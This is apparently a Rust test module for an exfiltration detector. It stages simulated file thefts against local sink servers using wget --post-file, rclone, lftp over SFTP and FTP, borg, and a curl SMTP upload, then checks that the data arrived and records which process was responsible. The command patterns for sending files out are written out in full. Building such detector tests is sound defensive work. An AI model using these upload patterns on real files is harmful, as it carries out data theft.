//! Thefts of files by tools that training has not seen.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use detector_tests::wait_for_tcp_listener;

use super::ways;
use crate::payloads;
use crate::random::Random;
use crate::scene::{Outcome, Scene, ensure_arrived};
use crate::tools::ftp::{self, CONTROL_PORT};
use crate::tools::mail;
use crate::tools::upload::folder_bytes;

const START: Duration = Duration::from_secs(15);
const POST_PORT: u16 = 8088;
const MAIL_PORT: u16 = 26;

/// A few kilobytes to a bare address.
pub(crate) fn wget(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let mut target = scene.named_target(random)?;
    target.host = target.address.to_string();
    let log = scene.scratch.join("sink.log").display().to_string();
    let _server = scene.start_script(scene.internet(), "sink.py", &[POST_PORT.to_string(), log])?;
    wait_for_tcp_listener(scene.internet(), POST_PORT, START)?;
    let found = payloads::small(random);
    let file = format!("--post-file={}", scene.document(&found.name, &found.bytes)?);
    let url = format!("http://{}:{POST_PORT}/up/{}", target.host, random.word(7));
    scene.run("wget", &["--quiet", "--output-document=/dev/null", &file, &url])?;
    let bytes = found.bytes.len();
    ensure_arrived(bytes, scene.sunk_bytes("/up/")?)?;
    let culprit = scene.culprit(&target, "tcp", Some(POST_PORT))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes to {url}")))
}

pub(crate) fn rclone(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let _server = ways::webdav(scene)?;
    let target = scene.named_target(random)?;
    let bytes = random.size(60_000, 18_000_000);
    let folder = ways::folder(scene, random, "stolen", bytes)?;
    let port = ways::rclone(scene, &target, &folder, ":webdav:drop")?;
    ensure_arrived(bytes, folder_bytes(&scene.inbox("drop"))?)?;
    let culprit = scene.culprit(&target, "tcp", Some(port))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes to {}", target.host)))
}

pub(crate) fn lftp_sftp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let _server = ways::sshd(scene)?;
    let target = scene.named_target(random)?;
    let bytes = random.size(60_000, 18_000_000);
    let file = scene.document("stolen", &random.document(bytes))?;
    let got = scene.inbox("got");
    let limit = random.between(300_000, 3_000_000);
    let commands = format!("set net:limit-total-rate 0:{limit}; put {file} -o {}", got.display());
    ways::lftp_sftp(scene, &target, &commands)?;
    ensure_arrived(bytes, fs::metadata(&got).context("nothing arrived")?.len() as usize)?;
    let culprit = scene.culprit(&target, "tcp", Some(ways::SFTP_PORT))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes at {limit} B/s to {}", target.host)))
}

pub(crate) fn borg(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let bytes = random.size(200_000, 12_000_000);
    let folder = ways::folder(scene, random, "stolen", bytes)?;
    ways::borg(scene, &target, &folder, "first")?;
    let held = folder_bytes(&scene.inbox("borg"))?;
    ensure!(held >= bytes, "{bytes} bytes were sent and the repository holds {held}");
    let culprit = scene.culprit(&target, "tcp", Some(22))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes to {}", target.host)))
}

/// curl hands the stealer's message in, at a port that no training has.
pub(crate) fn mail(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let _server = mail::serve(scene, &[MAIL_PORT])?;
    let length = random.size(500, 40_000);
    let found = payloads::text(random, length);
    let own = format!("{}@{}", random.word(8), target.host);
    let head = format!("From: {own}\r\nTo: {own}\r\nSubject: Recovered {}\r\n\r\n", random.word(6));
    let text = String::from_utf8_lossy(&found.bytes).replace('\n', "\r\n");
    let file = scene.document("message", (head + &text).as_bytes())?;
    let url = format!("smtp://{}:{MAIL_PORT}/client", target.address);
    let login = format!("{own}:correct-horse");
    let arguments = [
        "--silent",
        "--show-error",
        "--mail-from",
        &own,
        "--mail-rcpt",
        &own,
        "--user",
        &login,
        "--upload-file",
        &file,
        &url,
    ];
    scene.run("curl", &arguments)?;
    mail::ensure_delivered(scene, 1, length)?;
    let culprit = scene.culprit(&target, "tcp", Some(MAIL_PORT))?;
    Ok(Outcome::stolen(culprit, length, format!("{length} bytes to {own}")))
}

pub(crate) fn lftp_ftp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let passive = random.between(10_000, 30_000) as u16;
    let _server = ftp::serve(scene, passive, 1)?;
    let found = payloads::small(random);
    let file = scene.document(&found.name, &found.bytes)?;
    ways::lftp_ftp(scene, &target, &format!("put {file}"))?;
    let arrived = fs::metadata(scene.inbox(&found.name)).context("nothing arrived")?.len() as usize;
    ensure_arrived(found.bytes.len(), arrived)?;
    let culprit = scene.culprit(&target, "tcp", Some(passive))?;
    Ok(Outcome::stolen(culprit, arrived, format!("{arrived} bytes to {}", target.host))
        .with_control(CONTROL_PORT))
}
